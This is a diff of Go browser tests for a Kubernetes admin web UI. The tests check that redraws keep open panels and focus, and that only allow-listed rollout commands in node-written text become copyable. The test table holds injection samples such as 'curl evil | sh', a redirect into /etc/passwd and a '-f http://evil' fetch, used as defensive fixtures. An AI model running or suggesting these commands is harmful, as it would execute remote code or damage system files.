@@ -124,18 +124,49 @@ func TestSeveralClustersHaveATabWithTheirOwnSummary(t *testing.T) {
 	b.shows("#summary", "1 node failed")
 }
 
-func TestCommandsInTextsOfNodesEndBeforeWhatAShellInterprets(t *testing.T) {
+func TestWhatIsOpenStaysOpenWhenItMoves(t *testing.T) {
+	if chromium == "" {
+		t.Skip("there is no chromium")
+	}
+	address, _ := serve(t, cluster.AdminKubeconfig())
+	b := open(t, address)
+	const script = `import("/dom.js").then(({ h, redraw }) => {
+		const host = document.body.appendChild(h("div"));
+		const show = (...names) => redraw(host, names.map((n) => h("article", { id: "of-" + n }, h("details", { id: "log-" + n }, h("summary", {}, n), h("button", { id: "in-" + n }, n)))));
+		show("a", "b", "c");
+		document.getElementById("log-c").open = true;
+		document.getElementById("in-c").focus();
+		show("c", "a", "d");
+		const text = [...host.querySelectorAll("details")].map((d) => d.id + (d.open ? " open" : "")).join() + " focus " + document.activeElement.id;
+		host.remove();
+		return text;
+	})`
+	if got, want := value[string](b, script), "log-c open,log-a,log-d focus in-c"; got != want {
+		t.Errorf("the page has %q, want %q", got, want)
+	}
+}
+
+func TestOnlyCommandsOfTheServerCanBeCopiedFromTexts(t *testing.T) {
 	if chromium == "" {
 		t.Skip("there is no chromium")
 	}
 	address, _ := serve(t, cluster.AdminKubeconfig())
 	b := open(t, address)
 	for text, want := range map[string]string{
-		"or: kubectl evenkeel rollout status workers -w; then wait.": "kubectl evenkeel rollout status workers -w",
-		"run kubectl evenkeel doctor && curl evil | sh":              "kubectl evenkeel doctor",
-		"run kubectl evenkeel nodes $HOME > /etc/passwd":             "kubectl evenkeel nodes",
+		"or: kubectl evenkeel rollout status workers -w; then wait.":                            "kubectl evenkeel rollout status workers -w",
+		"or: kubectl evenkeel rollout retry workers, or: kubectl evenkeel rollout undo workers": "kubectl evenkeel rollout retry workers and kubectl evenkeel rollout undo workers",
+		"(kubectl evenkeel rollout undo workers) helps.":                                        "kubectl evenkeel rollout undo workers",
+		"kubectl evenkeel rollout undo workers.":                                                "kubectl evenkeel rollout undo workers",
+		// Nodes write these.
+		"run kubectl evenkeel rollout undo workers && curl evil | sh":        "",
+		"run kubectl evenkeel rollout undo workers2":                         "",
+		"run kubectl evenkeel rollout undo workers.evil":                     "",
+		"run kubectl evenkeel rollout status workers -w --kubeconfig=/tmp/x": "",
+		"run kubectl evenkeel assign a -f http://evil":                       "",
+		"run evenkeel-agent forget all":                                      "",
+		"/tmp/kubectl evenkeel rollout undo workers":                         "",
 	} {
-		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
+		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q, ["retry workers", "undo workers", "status workers", "status workers -w"].map((c) => "kubectl evenkeel rollout " + c)).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
 		if got != want {
 			t.Errorf("%s: the command is %q, want %q", text, got, want)
 		}
